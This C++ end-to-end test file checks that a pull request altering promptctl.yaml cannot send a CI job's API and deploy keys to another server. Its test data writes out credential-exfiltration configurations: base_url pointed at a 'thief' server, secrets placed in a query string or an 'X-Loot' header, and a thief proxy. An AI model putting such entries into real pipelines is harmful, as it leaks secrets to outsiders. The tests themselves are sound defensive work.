// A pull request that would have the job's keys: what the servers on both sides hear.

#include <fmt/format.h>

#include <string>

#include "tests/support/canned_server.hpp"
#include "tests/support/catch.hpp"
#include "tests/support/temporary_folder.hpp"
#include "tests/support/transcript.hpp"

using namespace promptctl;           // NOLINT: tests read better so.
using namespace promptctl::testing;  // NOLINT

namespace {

const std::string answer = R"({"choices":[{"message":{"content":"Hello"},"finish_reason":"stop"}],)"
                           R"("usage":{"prompt_tokens":10,"completion_tokens":5}})";

// A repository whose main sends a key to one server, and a branch whose promptctl.yaml is the thief's.
struct Site {
  CannedServer honest{{http_reply("200 OK", answer)}};
  CannedServer thief{{http_reply("200 OK", answer)}};
  TemporaryFolder folder;
  TranscriptPlayer player{folder.path()};

  Site() {
    propose("base_url: " + honest.address("/v1") + "\n    api_key: ${MODEL_KEY}\n    headers: {X-Team: shop}\n");
    write_text(folder.path() / "r/prompts/p.prompt", "---\nmodel: local/small\n---\nHello\n");
    write_text(folder.path() / "r/golden/p/suite.yaml",
               "prompt: p\ncases: cases.jsonl\nassert: [{type: contains, value: Hello}]\n");
    write_text(folder.path() / "r/golden/p/cases.jsonl", "{\"id\": \"a\", \"vars\": {}}\n");
    for (const char* command : {"git init -q -b main r", "git -C r add -A", "git -C r commit -qm first",
                                "git -C r update-ref refs/remotes/origin/main HEAD", "git -C r checkout -q -b thief"}) {
      player.run(command);
    }
    player.run(
        "GITHUB_EVENT_NAME=pull_request GITHUB_BASE_REF=main MODEL_KEY=key-0123456789 DEPLOY_KEY=deploy-0123456789");
  }

  void propose(const std::string& entry) {
    write_text(folder.path() / "r/promptctl.yaml",
               "format: 1\nproviders:\n  local:\n    type: openai\n    retries: 0\n    " + entry);
    player.run("git -C r commit -qam proposed");
  }

  bool thief_heard() const { return !thief.requests().empty(); }
};

}  // namespace

TEST_CASE("a pull request can't send the job's keys elsewhere, or others to the same place", "[e2e]") {
  Site site;
  const std::string thief = site.thief.address("/v1");
  const std::string honest = site.honest.address("/v1");
  for (const std::string& entry : {
           "base_url: " + thief + "\n    api_key: ${MODEL_KEY}\n",
           "base_url: " + honest + "\n    api_key: ${DEPLOY_KEY}\n",
           "base_url: " + honest + "?k=${DEPLOY_KEY}\n    api_key: ${MODEL_KEY}\n",
           "base_url: " + honest + "\n    headers: {X-Loot: \"${DEPLOY_KEY}\"}\n",
           "base_url: http://model.example/v1\n    api_key: ${MODEL_KEY}\n    proxy: " + site.thief.address("") + "\n",
       }) {
    INFO(entry);
    site.propose(entry);
    const std::string printed = site.player.run("promptctl -C r eval --no-cache");
    INFO(printed);
    CHECK(printed.find("[exit 0]") != std::string::npos);
    CHECK(printed.find("note: promptctl.yaml of this pull request changes") != std::string::npos);
    CHECK_FALSE(site.thief_heard());
    REQUIRE_FALSE(site.honest.requests().empty());
    const std::string heard = site.honest.requests().back();
    CHECK(heard.find("POST /v1/chat/completions HTTP") != std::string::npos);
    CHECK(heard.find("Bearer key-0123456789") != std::string::npos);
    CHECK(heard.find("shop") != std::string::npos);
    CHECK(heard.find("deploy-0123456789") == std::string::npos);
  }
  CHECK(site.honest.requests().size() == 5);
}

TEST_CASE("keys go where a pull request says when whoever runs the job says so", "[e2e]") {
  Site site;
  site.propose("base_url: " + site.thief.address("/v1") + "\n    api_key: ${MODEL_KEY}\n");
  const std::string printed = site.player.run("promptctl -C r eval --no-cache --trust-head");
  INFO(printed);
  CHECK(printed.find("note: --trust-head: requests to `local` go by") != std::string::npos);
  CHECK(site.thief_heard());
}

TEST_CASE("a run that went where the pull request says, its evidence and a decision on it say so", "[e2e]") {
  Site site;
  site.propose("base_url: " + site.thief.address("/v1") + "\n    api_key: ${MODEL_KEY}\n");
  const std::string gate = "promptctl -C r gate p --against p@git:HEAD --no-cache --policy ../rules.yaml ";
  write_text(site.folder.path() / "rules.yaml", "cassette: allow\nrules: [{metric: pass_rate, at_least: 1%}]\n");
  site.player.run("clock 2026-01-05T10:00:00Z");
  site.player.run("promptctl -C r eval --no-cache --trust-head");
  site.player.run("promptctl -C r runs export latest -o ../e.intoto.jsonl");
  CHECK(read_text(site.folder.path() / "e.intoto.jsonl").find(R"("trust_head":"base_url, headers")") !=
        std::string::npos);
  const std::string json = site.player.run(gate + "--format json");
  INFO(json);
  CHECK(json.find(R"("trust_head": "base_url, headers")") != std::string::npos);
  CHECK(site.player.run(gate + "--format console").find("by --trust-head") != std::string::npos);
}

TEST_CASE("certificates are the base's to the last byte", "[e2e]") {
  Site site;
  const std::string entry = "base_url: https://127.0.0.1:9/v1\n    ca_file: ca.pem\n";
  write_text(site.folder.path() / "r/ca.pem", "agreed\n");
  site.propose(entry);
  site.player.run("git -C r add -A");
  site.player.run("git -C r commit -qm certificates");
  site.player.run("git -C r update-ref refs/remotes/origin/main HEAD");
  write_text(site.folder.path() / "r/ca.pem", "another's\n");
  const std::string printed = site.player.run("promptctl -C r eval --no-cache");
  INFO(printed);
  CHECK(printed.find("changes the bytes of ca.pem of `local`") != std::string::npos);
  std::filesystem::remove(site.folder.path() / "r/ca.pem");
  const std::string without = site.player.run("promptctl -C r eval --no-cache --trust-head");
  CHECK(without.find("there is no such file") != std::string::npos);
}
